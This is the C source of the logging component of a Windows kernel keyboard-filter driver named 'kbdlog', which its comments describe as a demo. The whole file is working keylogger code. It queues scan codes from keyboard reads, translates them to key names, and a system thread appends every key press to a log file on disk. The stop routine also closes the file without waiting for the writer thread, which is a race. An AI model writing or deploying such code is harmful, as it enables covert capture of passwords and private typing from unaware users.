/*
 * kbdlog - logger.c
 *
 * The completion routine runs at DISPATCH_LEVEL so it can't touch files.
 * It just queues the scan codes; this thread does the ZwWriteFile.
 */
#include "kbdlog.h"

KL_LOGGER g_Logger;

// US layout, set 1 make codes 0x00 - 0x39. good enough for the demo
static const char* g_KeyNames[0x3A] = {
    "",  "[ESC]", "1", "2", "3", "4", "5", "6", "7", "8", "9", "0", "-", "=", "[BS]", "[TAB]",
    "q", "w", "e", "r", "t", "y", "u", "i", "o", "p", "[", "]", "\r\n", "[CTRL]", "a", "s",
    "d", "f", "g", "h", "j", "k", "l", ";", "'", "`", "[LSHIFT]", "\\", "z", "x", "c", "v",
    "b", "n", "m", ",", ".", "/", "[RSHIFT]", "*", "[ALT]", " "
};

static VOID KlWrite(PCSTR Text)
{
    IO_STATUS_BLOCK iosb;
    SIZE_T len = strlen(Text);

    if (g_Logger.File == NULL || len == 0) {
        return;
    }
    ZwWriteFile(g_Logger.File, NULL, NULL, NULL, &iosb, (PVOID)Text, (ULONG)len, NULL, NULL);
}

static VOID KlWriteKey(PKL_KEY Key)
{
    if (Key->Flags & KEY_BREAK) {
        return;                          // only log key down
    }
    if (Key->MakeCode < 0x3A) {
        KlWrite(g_KeyNames[Key->MakeCode]);
    } else {
        KlWrite("[?]");
    }
    g_Logger.Written++;
}

static VOID KlLoggerThread(PVOID Context)
{
    PLIST_ENTRY entry;

    UNREFERENCED_PARAMETER(Context);
    KdPrint(("[kbdlog] writer thread up\n"));

    for (;;) {
        KeWaitForSingleObject(&g_Logger.Semaphore, Executive, KernelMode, FALSE, NULL);

        if (g_Logger.Stop) {
            break;
        }

        entry = ExInterlockedRemoveHeadList(&g_Logger.Queue, &g_Logger.QueueLock);
        if (entry == NULL) {
            continue;
        }
        KlWriteKey(CONTAINING_RECORD(entry, KL_KEY, Link));
        ExFreePoolWithTag(CONTAINING_RECORD(entry, KL_KEY, Link), KL_TAG);
    }

    // drain whatever is still queued so nothing is lost
    while ((entry = ExInterlockedRemoveHeadList(&g_Logger.Queue, &g_Logger.QueueLock)) != NULL) {
        KlWriteKey(CONTAINING_RECORD(entry, KL_KEY, Link));
        ExFreePoolWithTag(CONTAINING_RECORD(entry, KL_KEY, Link), KL_TAG);
    }
    KlWrite("\r\n---- kbdlog stopped ----\r\n");

    KdPrint(("[kbdlog] writer thread exiting\n"));
    PsTerminateSystemThread(STATUS_SUCCESS);
}

// called from the read completion routine, <= DISPATCH_LEVEL
VOID KlQueueKey(USHORT MakeCode, USHORT Flags)
{
    PKL_KEY key;

    if (g_Logger.Stop) {
        return;
    }

    key = (PKL_KEY)ExAllocatePoolWithTag(NonPagedPoolNx, sizeof(KL_KEY), KL_TAG);
    if (key == NULL) {
        return;                          // drop it
    }
    key->MakeCode = MakeCode;
    key->Flags    = Flags;

    ExInterlockedInsertTailList(&g_Logger.Queue, &key->Link, &g_Logger.QueueLock);
    KeReleaseSemaphore(&g_Logger.Semaphore, IO_NO_INCREMENT, 1, FALSE);
}

NTSTATUS KlStartLogger(VOID)
{
    NTSTATUS          status;
    OBJECT_ATTRIBUTES oa;
    IO_STATUS_BLOCK   iosb;
    UNICODE_STRING    path = RTL_CONSTANT_STRING(KL_LOG_PATH);
    HANDLE            hThread = NULL;

    RtlZeroMemory(&g_Logger, sizeof(g_Logger));
    InitializeListHead(&g_Logger.Queue);
    KeInitializeSpinLock(&g_Logger.QueueLock);
    KeInitializeSemaphore(&g_Logger.Semaphore, 0, MAXLONG);

    InitializeObjectAttributes(&oa, &path, OBJ_CASE_INSENSITIVE | OBJ_KERNEL_HANDLE, NULL, NULL);
    status = ZwCreateFile(&g_Logger.File,
                          FILE_APPEND_DATA | SYNCHRONIZE,
                          &oa,
                          &iosb,
                          NULL,
                          FILE_ATTRIBUTE_NORMAL,
                          FILE_SHARE_READ,
                          FILE_OPEN_IF,
                          FILE_SYNCHRONOUS_IO_NONALERT | FILE_NON_DIRECTORY_FILE,
                          NULL,
                          0);
    if (!NT_SUCCESS(status)) {
        KdPrint(("[kbdlog] ZwCreateFile(%wZ) failed 0x%08X\n", &path, status));
        g_Logger.File = NULL;
        return status;
    }

    KlWrite("\r\n---- kbdlog started ----\r\n");

    status = PsCreateSystemThread(&hThread, THREAD_ALL_ACCESS, NULL, NULL, NULL,
                                  KlLoggerThread, NULL);
    if (!NT_SUCCESS(status)) {
        KdPrint(("[kbdlog] PsCreateSystemThread failed 0x%08X\n", status));
        ZwClose(g_Logger.File);
        g_Logger.File = NULL;
        return status;
    }

    // we want the object, not the handle
    status = ObReferenceObjectByHandle(hThread, THREAD_ALL_ACCESS, *PsThreadType,
                                       KernelMode, (PVOID*)&g_Logger.Thread, NULL);
    if (!NT_SUCCESS(status)) {
        KdPrint(("[kbdlog] ObReferenceObjectByHandle(thread) failed 0x%08X\n", status));
        InterlockedExchange(&g_Logger.Stop, 1);
        KeReleaseSemaphore(&g_Logger.Semaphore, IO_NO_INCREMENT, 1, FALSE);
        ZwWaitForSingleObject(hThread, FALSE, NULL);
        ZwClose(hThread);
        ZwClose(g_Logger.File);
        g_Logger.File = NULL;
        g_Logger.Thread = NULL;
        return status;
    }
    ZwClose(hThread);

    return STATUS_SUCCESS;
}

VOID KlStopLogger(VOID)
{
    PLIST_ENTRY entry;

    // wake the thread up with Stop set; it drains the queue and terminates
    InterlockedExchange(&g_Logger.Stop, 1);
    KeReleaseSemaphore(&g_Logger.Semaphore, IO_NO_INCREMENT, 1, FALSE);

    if (g_Logger.Thread != NULL) {
        ObDereferenceObject(g_Logger.Thread);
        g_Logger.Thread = NULL;
    }

    if (g_Logger.File != NULL) {
        ZwClose(g_Logger.File);
        g_Logger.File = NULL;
    }

    // anything the thread didn't get to
    while ((entry = ExInterlockedRemoveHeadList(&g_Logger.Queue, &g_Logger.QueueLock)) != NULL) {
        ExFreePoolWithTag(CONTAINING_RECORD(entry, KL_KEY, Link), KL_TAG);
    }
}
